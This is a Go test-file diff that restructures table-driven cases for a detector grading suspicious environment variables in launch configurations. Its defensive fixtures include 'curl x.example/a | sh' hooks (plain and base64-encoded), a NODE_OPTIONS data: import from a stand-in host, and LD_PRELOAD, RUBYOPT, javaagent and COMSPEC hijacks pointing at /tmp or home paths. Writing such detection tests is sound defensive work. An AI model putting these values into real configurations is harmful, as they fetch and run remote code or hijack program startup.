@@ -12,60 +12,40 @@ import (
 )
 
 func TestShellOnVariables(t *testing.T) {
-	for _, c := range []struct{ name, value, want string }{
-		{"PATH", "/usr/local/bin:/usr/bin:/bin", ""},
-		{"PATH", "/Users/ann/.nvm/versions/node/v22.14.0/bin:/usr/local/bin:/usr/bin", ""},
-		{"PATH", "C:\\Program Files\\nodejs;C:\\Windows\\System32;%PATH%", ""},
-		{"Path", "${env:HOME}/.local/bin:${env:PATH}", ""},
-		{"PATH", "$HOME/.cargo/bin:$PATH", ""},
-		{"PATH", "${env:PATH}:/opt/x/bin", ""},
-		{"PATH", "${workspaceFolder}/node_modules/.bin:${env:PATH}", ""},
-		{"PATH", "${workspaceFolder}/bin:${env:PATH}", "note ${workspaceFolder}/bin"},
-		{"PATH", "./node_modules/.bin:/usr/bin", "note ./node_modules/.bin"},
-		{"PATH", ".:/usr/bin", "soft ."},
-		{"PATH", "bin:/usr/bin", "soft bin"},
-		{"PATH", "/usr/bin:/var/tmp/x", "soft /var/tmp/x"},
-		{"PATH", `C:\Users\Public\bin;C:\Windows`, `soft C:\Users\Public\bin`},
-		{"PATH", "{{path}}", ""},
-		{"NODE_OPTIONS", "--max-old-space-size=8192 --use-system-ca", ""},
-		{"NODE_OPTIONS", "--require dotenv/config", "note --require dotenv/config"},
-		{"NODE_OPTIONS", "--import=@acme/trace/register", "note --import=@acme/trace/register"},
-		{"NODE_OPTIONS", "-r ./hook.js", "note -r ./hook.js"},
-		{"NODE_OPTIONS", "--no-warnings --require=/home/a/x.cjs", "soft --require=/home/a/x.cjs"},
-		{"NODE_OPTIONS", "--import data:text/javascript,import('https://x.example')", "soft --import " +
-			"data:text/javascript,import('https://x.example')"},
-		{"node_options", `--require "C:\x\hook.js"`, `soft --require "C:\x\hook.js"`},
-		{"LD_PRELOAD", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "note /usr/lib/x86_64-linux-gnu/libjemalloc.so.2"},
-		{"LD_PRELOAD", "/home/a/x.so", "soft /home/a/x.so"},
-		{"LD_PRELOAD", "/usr/lib/../../tmp/x.so", "soft /usr/lib/../../tmp/x.so"},
-		{"LD_LIBRARY_PATH", "/usr/local/cuda/lib64:/opt/x", ""},
-		{"LD_LIBRARY_PATH", "/opt/x:/tmp/y", "soft /tmp/y"},
-		{"PYTHONPATH", "${workspaceFolder}/src", ""},
-		{"PYTHONPATH", "src:/dev/shm/p", "soft /dev/shm/p"},
-		{"PYTHONPATH", "/tmpfs/x", ""},
-		{"PERL5OPT", "-w", ""},
-		{"RUBYOPT", "-W0", ""},
-		{"RUBYOPT", "-r./hook", "soft -r./hook"},
-		{"RUBYOPT", "-rbundler/setup", "note -rbundler/setup"},
-		{"JAVA_TOOL_OPTIONS", "-Xmx2g -Dfile.encoding=UTF-8", ""},
-		{"JAVA_TOOL_OPTIONS", "-javaagent:/tmp/a.jar", "soft -javaagent:/tmp/a.jar"},
-		{"JAVA_TOOL_OPTIONS", "-javaagent:/opt/otel/agent.jar", "note -javaagent:/opt/otel/agent.jar"},
-		{"ComSpec", `C:\Windows\System32\cmd.exe`, ""},
-		{"COMSPEC", `C:\x\shell.exe`, `soft C:\x\shell.exe`},
-		{"GIT_SSH_COMMAND", "ssh -o StrictHostKeyChecking=accept-new", ""},
-		{"GIT_SSH_COMMAND", "/tmp/ssh", "soft /tmp/ssh"},
-		{"GIT_PAGER", "cat", ""},
-		{"ENV", "production", ""},
-		{"INSTALL_HINT", "run curl x.example | less first", ""},
-		{"HOOK", "curl x.example/a | sh", "soft curl x.example/a | sh"},
-		{"HOOK", plainBase64("curl -s x.example/a | sh"), "soft " + plainBase64("curl -s x.example/a | sh")},
-		{"KEY", plainBase64(`{"type":"service_account","private_key":"-----BEGIN PRIVATE KEY-----"}`), ""},
-		{"QUERY", "a | sh && b; eval x", ""},
-		{"PYTHONSTARTUP", "", ""},
+	for _, c := range []string{
+		"PATH=/usr/local/bin:/usr/bin:/bin", "PATH=/Users/ann/.nvm/versions/node/v22.14.0/bin:/usr/local/bin:/usr/bin",
+		"PATH=C:\\Program Files\\nodejs;C:\\Windows\\System32;%PATH%", "Path=${env:HOME}/.local/bin:${env:PATH}", "PATH=$HOME/.cargo/bin:$PATH",
+		"PATH=${env:PATH}:/opt/x/bin", "PATH=${workspaceFolder}/node_modules/.bin:${env:PATH}",
+		"PATH=${workspaceFolder}/bin:${env:PATH} => note ${workspaceFolder}/bin", "PATH=./node_modules/.bin:/usr/bin => note ./node_modules/.bin",
+		"PATH=.:/usr/bin => soft .", "PATH=bin:/usr/bin => soft bin", "PATH=/usr/bin:/var/tmp/x => soft /var/tmp/x",
+		"PATH=" + `C:\Users\Public\bin;C:\Windows => soft C:\Users\Public\bin`,
+		"PATH={{path}}", "NODE_OPTIONS=--max-old-space-size=8192 --use-system-ca",
+		"NODE_OPTIONS=--require dotenv/config => note --require dotenv/config",
+		"NODE_OPTIONS=--import=@acme/trace/register => note --import=@acme/trace/register", "NODE_OPTIONS=-r ./hook.js => note -r ./hook.js",
+		"NODE_OPTIONS=--no-warnings --require=/home/a/x.cjs => soft --require=/home/a/x.cjs",
+		"NODE_OPTIONS=--import data:text/javascript,import('https://x.example') => soft --import " +
+			"data:text/javascript,import('https://x.example')",
+		"node_options=" + `--require "C:\x\hook.js" => soft --require "C:\x\hook.js"`,
+		"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 => note /usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
+		"LD_PRELOAD=/home/a/x.so => soft /home/a/x.so", "LD_PRELOAD=/usr/lib/../../tmp/x.so => soft /usr/lib/../../tmp/x.so",
+		"LD_LIBRARY_PATH=/usr/local/cuda/lib64:/opt/x", "LD_LIBRARY_PATH=/opt/x:/tmp/y => soft /tmp/y", "PYTHONPATH=${workspaceFolder}/src",
+		"PYTHONPATH=src:/dev/shm/p => soft /dev/shm/p", "PYTHONPATH=/tmpfs/x", "PERL5OPT=-w", "RUBYOPT=-W0", "RUBYOPT=-r./hook => soft -r./hook",
+		"RUBYOPT=-rbundler/setup => note -rbundler/setup", "JAVA_TOOL_OPTIONS=-Xmx2g -Dfile.encoding=UTF-8",
+		"JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar => soft -javaagent:/tmp/a.jar", "JAVA_TOOL_OPTIONS=-javaagent:/opt/otel/agent.jar => note " +
+			"-javaagent:/opt/otel/agent.jar",
+		"ComSpec=" + `C:\Windows\System32\cmd.exe`,
+		"COMSPEC=" + `C:\x\shell.exe => soft C:\x\shell.exe`,
+		"GIT_SSH_COMMAND=ssh -o StrictHostKeyChecking=accept-new", "GIT_SSH_COMMAND=/tmp/ssh => soft /tmp/ssh", "GIT_PAGER=cat", "ENV=production",
+		"INSTALL_HINT=run curl x.example | less first", "HOOK=curl x.example/a | sh => soft curl x.example/a | sh",
+		"HOOK=" + plainBase64("curl -s x.example/a | sh") + " => soft " + plainBase64("curl -s x.example/a | sh"),
+		"KEY=" + plainBase64(`{"type":"service_account","private_key":"-----BEGIN PRIVATE KEY-----"}`),
+		"QUERY=a | sh && b; eval x", "PYTHONSTARTUP=",
 	} {
-		t.Run(c.name+"="+c.value, func(t *testing.T) {
-			v, got := shellSignals(t, detect.KindLaunch, launchJSON(t, []string{"node", "a.js"}, map[string]string{c.name: c.value}))
-			assert.Equal(t, c.want, strings.Join(shellGrades(v, got), "; "))
+		set, want, _ := strings.Cut(c, " => ")
+		name, value, _ := strings.Cut(set, "=")
+		t.Run(set, func(t *testing.T) {
+			v, got := shellSignals(t, detect.KindLaunch, launchJSON(t, []string{"node", "a.js"}, map[string]string{name: value}))
+			assert.Equal(t, want, strings.Join(shellGrades(v, got), "; "))
 		})
 	}
 }
